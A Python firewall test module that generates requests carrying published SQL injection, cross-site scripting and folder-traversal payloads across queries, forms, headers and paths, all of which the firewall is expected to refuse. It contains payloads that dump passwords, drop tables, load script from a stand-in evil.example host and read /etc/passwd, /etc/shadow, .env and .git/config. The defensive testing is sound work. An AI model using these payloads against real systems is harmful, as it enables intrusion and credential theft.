"""Attacks that the firewall must refuse, in the forms in which they are published, aimed at every part of a request.

Sources of the forms: OWASP Web Security Testing Guide 4.2, chapters 4.7.1, 4.7.5, 4.7.11 and 4.5.1 (reflected scripts,
SQL injection, traversal of folders); OWASP XSS Filter Evasion Cheat Sheet; PortSwigger's SQL injection cheat sheet;
MITRE's CWE-22, CWE-79 and CWE-89. Written down here anew; none does anything.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

SQL = (
    "' OR '1'='1",
    "' OR 1=1 -- ",
    "admin'--",
    "1' AND SLEEP(5)#",
    "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- -",
    "1 UNION SELECT NULL,NULL,NULL--",
    "-1' UNION SELECT username, password FROM users--",
    "'; DROP TABLE applications; --",
    "1; SELECT pg_sleep(5)--",
    "1' AND 1=CAST((SELECT version()) AS int)--",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "x' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version())))-- ",
    "1' ORDER BY 10-- ",
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "' || (SELECT password FROM people LIMIT 1) || '",
    "1' GROUP BY 1 HAVING 1=1--",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<video><source onerror="alert(1)">',
)
FOLDERS = (
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "/var/www/../../etc/shadow",
    "file:///etc/passwd",
    "../../../../../../proc/self/environ",
    "..%2f..%2f..%2fetc%2fpasswd",
    "../../../../etc/passwd\x00.pdf",
)
KINDS = {"sql": SQL, "scripts": SCRIPTS, "folders": FOLDERS}
_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
_PARTS = "multipart/form-data; boundary=probe"
KEY = "01890a5d-ac96-774b-bcce-b302099a8057"


@dataclass(frozen=True)
class Probe:
    """One request that must be refused; the path goes out exactly as it is."""

    kind: str
    aim: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


def everything() -> Iterator[Probe]:
    """Give every attack at every part of a request where it could matter."""
    for kind, texts in KINDS.items():
        for text in texts:
            yield from _in_queries(kind, text)
            yield from _in_forms(kind, text)
            yield from _in_headers(kind, text)
    yield from _in_paths()


def _in_queries(kind: str, text: str) -> Iterator[Probe]:
    for path in ("/jobs", "/suggest/skills", "/companies"):
        yield Probe(kind, "query", f"{path}?{urlencode({'q': text})}")
    yield Probe(kind, "query", f"/jobs?place={quote(text)}&q=cook")
    # With a cookie the request takes the way of who is signed in.
    yield Probe(kind, "query", f"/hiring/jobs/{KEY}/applications?{urlencode({'q': text})}", {"Cookie": "session=x1"})


def _in_forms(kind: str, text: str) -> Iterator[Probe]:
    yield Probe(kind, "form", "/sign-in", _FORM, urlencode({"email": text, "password": "x"}).encode())
    cookie = {**_FORM, "Cookie": "session=x1"}
    yield Probe(kind, "form", "/account/name", cookie, urlencode({"name": text}).encode())
    yield Probe(kind, "form", f"/hiring/jobs/{KEY}/team", cookie, urlencode({"person": text}).encode())
    part = f'--probe\r\nContent-Disposition: form-data; name="location"\r\n\r\n{text}\r\n--probe--\r\n'
    yield Probe(kind, "form", "/jobs/cook-berlin-1a2b3c/apply", {"Content-Type": _PARTS}, part.encode())
    if kind != "folders":
        # Fields for whole paragraphs are excused from other kinds of rules, never from these.
        note = urlencode({"text": text}).encode()
        yield Probe(kind, "form", f"/hiring/applications/{KEY}/notes", cookie, note)
        letter = urlencode({"cover_letter": text, f"question-{KEY}": text}).encode()
        yield Probe(kind, "form", "/jobs/cook-berlin-1a2b3c/apply", _FORM, letter)


def _in_headers(kind: str, text: str) -> Iterator[Probe]:
    # A header cannot hold what ends a line.
    if not text.isprintable():
        return
    names = {"sql": ("User-Agent", "Referer"), "scripts": ("User-Agent", "Referer"), "folders": ("X-File",)}[kind]
    for name in names:
        # Beyond the first level the rules look for steps upwards in headers, not for every way to write them.
        if kind != "folders" or text.startswith(("../", "..\\")):
            yield Probe(kind, "header", "/jobs", {name: text})
    if kind != "folders" and not set(text) & set(';, "'):
        yield Probe(kind, "header", "/jobs", {"Cookie": f"theme={text}"})


def _in_paths() -> Iterator[Probe]:
    for path in (
        "/jobs/..%2f..%2f..%2fetc%2fpasswd",
        "/jobs/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/jobs/..%5c..%5cwindows%5cwin.ini",
        "/jobs/..%c0%af..%c0%afetc/passwd",
        "/../../../../etc/passwd",
        "/companies/%2e%2e%2f%2e%2e%2f.env",
        "/.env",
        "/.git/config",
    ):
        yield Probe("folders", "path", path)
    yield Probe("scripts", "path", f"/jobs/{quote('<script>alert(1)</script>')}")
    yield Probe("scripts", "path", f"/companies/{quote('<script src=//evil.example/x.js>')}")
